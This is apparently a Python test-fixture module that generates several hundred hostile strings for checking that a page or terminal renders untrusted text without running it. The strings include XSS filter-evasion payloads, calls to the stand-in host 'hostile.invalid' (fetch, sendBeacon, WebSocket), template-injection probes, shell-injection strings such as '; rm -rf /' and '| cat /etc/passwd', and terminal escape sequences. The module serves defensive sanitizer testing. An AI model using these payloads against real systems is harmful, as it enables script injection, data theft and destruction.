"""Texts that would do harm where they are not shown as text: 500 and some, by family.

Each that carries a script calls RAN, and each that fetches something fetches from HOST: a page in which
neither happened has run nothing. Sources: the families of the OWASP XSS filter evasion cheat sheet, of
HTML5 security cheat sheets, and of terminal escape sequence attacks, written out for these two marks.
"""

from __future__ import annotations

from collections.abc import Iterator

RAN = "window.__ran=(window.__ran||0)+1"
HOST = "hostile.invalid"
URL = f"http://{HOST}/x"

EVENTS = """
onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend
ontransitionend onbegin onend onrepeat ontoggle onstart onfinish onbounce
onpageshow onhashchange onmessage onresize onscroll onscrollend onwheel oninput
onchange onsubmit onreset onselect oncopy oncut onpaste ondrag
ondrop oncontextmenu onkeydown onkeyup onpointerdown onpointerenter onpointerover onplay
oncanplay onloadstart onloadeddata ondurationchange onunload onbeforeunload onbeforeprint onauxclick
onbeforematch oncuechange onfocusin oninvalid onsecuritypolicyviolation onwebkitanimationstart
"""
TAGS = """
img svg body video audio iframe object embed input select textarea details marquee math
style link meta base form button isindex keygen frameset table td a p div
x-y xss noscript template slot title plaintext listing xmp
"""
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6a;avascript:", "vbscript:", "data:text/html,",
    "data:text/html;base64,", "data:image/svg+xml,", "file:///etc/passwd#", "//" + HOST + "/",
    "\\\\" + HOST + "\\",
)  # fmt: skip
BREAKS = ("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</style>", "</textarea>",
          "</script>", "</svg>", "</code>", "</pre>", "</bdi>", "</p></li></ul>", "--!>", "*/")  # fmt: skip
DIRECTIONS = [f"a{chr(code)}b" for code in (
    0x061C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, *range(0x202A, 0x202F), 0x2028, 0x2029, 0x2060,
    *range(0x2066, 0x206A), 0xFEFF, 0xFFF9, 0xFFFE, 0xFFFF, 0xE0001, 0xE0041, 0x1D173, 0x115F, 0x3164,
)]  # fmt: skip
# One a line; @RUN, @URL and @HOST stand for the marks above.
LINES = r"""
<script>@RUN</script>
<ScRiPt >@RUN</sCrIpT >
<script src=@URL></script>
<script/x>@RUN</script>
<<script>@RUN//<</script>
<svg><script>@RUN</script></svg>
<svg><script href=@URL /></svg>
<svg><animate attributeName=href values=javascript:@RUN /><a id=x><text>x</text></a></svg>
<img src=@URL>
<iframe src=@URL></iframe>
<iframe srcdoc='<script>parent.@RUN</script>'></iframe>
<link rel=stylesheet href=@URL>
<link rel=prefetch href=@URL>
<link rel=dns-prefetch href=//@HOST>
<style>@import '@URL';</style>
<style>*{background:url(@URL)}</style>
<p style='background:url(@URL)'>x
<meta http-equiv=refresh content='0;url=@URL'>
<base href='@URL/'>
<form action=@URL><button>x</button></form>
<form id=f action=@URL></form><button form=f>x</button>
<object data=@URL></object>
<embed src=@URL>
<video src=@URL autoplay>
<video poster=@URL>
<audio src=@URL autoplay>
<source src=@URL>
<input type=image src=@URL>
<table background=@URL>
<body background=@URL>
<a ping=@URL href=#x>x</a>
<img srcset='@URL 1x'>
<picture><source srcset=@URL></picture>
<svg><image href=@URL /></svg>
<svg><use href='@URL#x' /></svg>
<svg><feImage href=@URL /></svg>
<svg><foreignObject><img src=@URL></foreignObject></svg>
<svg><set attributeName=onload to=@RUN /></svg>
<frameset><frame src=@URL></frameset>
<portal src=@URL></portal>
<template><script>@RUN</script></template>
<noscript><p title='</noscript><img src onerror=@RUN>'>
<xml id=x><a><b onload=@RUN></b></a></xml>
<?xml-stylesheet href='javascript:@RUN'?>
<!DOCTYPE x [<!ENTITY y SYSTEM '@URL'>]>&y;
<![CDATA[<script>@RUN</script>]]>
<!--[if IE]><script>@RUN</script><![endif]-->
+ADw-script+AD4-@RUN+ADw-/script+AD4-
¼script¾@RUN¼/script¾
＜script＞@RUN＜/script＞
&#60;script&#62;@RUN&#60;/script&#62;
&lt;img src=x onerror=@RUN&gt;
%3Cscript%3E@RUN%3C/script%3E
<script type=module>import '@URL'</script>
<script type=importmap>{}</script><script>@RUN</script>
<script>fetch('@URL')</script>
<script>new Image().src='@URL'</script>
<script>navigator.sendBeacon('@URL')</script>
<script>new WebSocket('ws://@HOST')</script>
<script>location='@URL'</script>
<script>alert(1);@RUN</script>
</html>
</body></html><script>
<plaintext>
<!--
<![CDATA[
<
>
&
&amp
&#0;
&#x110000;
"
'
`
../../../etc/passwd
CON
NUL
1e999
NaN
-0
null
undefined
__proto__
constructor
toString
' OR 1=1 --
; rm -rf /
$(id)
`id`
| cat /etc/passwd
{{ 7*7 }}
{{ ''.__class__.__mro__ }}
{% raw %}
{% endraw %}{{ config }}
{# comment #}
{{ self._TemplateReference__context }}
{{ cycler.__init__.__globals__ }}
{% include '/etc/passwd' %}
{% for x in range(10) %}x{% endfor %}
${7*7}
#{7*7}
<%= 7*7 %>
{{constructor.constructor('x')()}}
{method}
{0}
{method.__class__}
%(method)s
%s%n
{{
}}
{%
%}
{
}
{}
{!r}
{:>99999999}
$method
@{x}
<!--#include virtual='/etc/passwd'-->
[x](javascript:@RUN)
![x](@URL)
<@URL>
[x]: @URL
[![x](@URL)](@URL)
# heading
~~~
> quote
- list
1. list
***
===
---
&lt;script&gt;
www.@HOST
user@@HOST
$$x$$
[^1]
:smile:
@everyone
#1
``````````````````````````````
31m
0;x
q

[red]x[/red]
[link=@URL]x[/link]
[/]
[bold
"""
OTHERS = [
    "<script>\n<!--\nwindow.__ran=(window.__ran||0)+1\n//-->\n</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__ran=(window.__ran||0)+1>",
    "\\u003cscript\\u003ewindow.__ran=(window.__ran||0)+1\\u003c/script\\u003e",
    "W" * 5000,
    "가" * 3000,
    "a " * 3000,
    "\n" * 500,
    "\t" * 300,
    "\u0301" * 500,
    "🧑\u200d🚀" * 200,
    "()" * 1000,
    "\ud800",
    "x\udfffy",
    "{faster:은/는}",
    "| a | b |\n|---|---|",
    "```\n```",
    "\\",
    "<!-- ",
    "\x1b[31mred",
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b]8;;http://hostile.invalid/x\x07link\x1b]8;;\x07",
    "\x1b[?1049h",
    "\x1b]52;c;aGk=\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1b[21t",
    "\x1bc",
    "\x1b[1A\x1b[2K",
    "a\rb",
    "a\x08\x08b",
    "\x07\x07\x07\x07\x07",
    "\x0b\x0c",
    "\x00",
    "\x85",
    "\x1b]1337;File=:x\x07",
    "\x1b]4;1;?\x07",
    "\x1b[20i",
    "\x1b#8",
    "\x0e\x0f",
]


def hostile_strings() -> list[str]:
    """Return all of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    """Yield every string, family by family."""
    events, tags = EVENTS.split(), TAGS.split()
    for line in LINES.strip().splitlines():
        yield line.replace("@RUN", RAN).replace("@URL", URL).replace("@HOST", HOST)
    yield from OTHERS
    yield from DIRECTIONS
    for number, event in enumerate(events):
        tag = tags[number % len(tags)]
        yield f"<{tag} {event}={RAN} src=x autofocus tabindex=1 open>"
        yield f"{BREAKS[number % len(BREAKS)]} {event}={RAN} x="
    for number, tag in enumerate(tags):
        yield f"<{tag}/{events[number]}='{RAN}'//"
        yield f"<{tag} {events[number % 8]}=&#{ord('w')};{RAN[1:]}>"
        yield f"<{tag}\x0c{events[number % 8]}\x0c=\x0c{RAN} src=x>"
        yield f"<{tag.upper()}\n{events[number % 8]}\n=\n{RAN}\nSRC=X>"
    for scheme in SCHEMES:
        for form in (
            "<a href='{}'>x</a>",
            "<iframe src='{}'></iframe>",
            "<svg><a href='{}'><text>x</text></a></svg>",
            "{}",
        ):
            yield form.format(f"{scheme}{RAN}")
    for mark in BREAKS:
        yield f"{mark}<script>{RAN}</script>"
        yield f"{mark}<img src=x onerror={RAN}>"
        yield f"{mark}<svg onload={RAN}>"
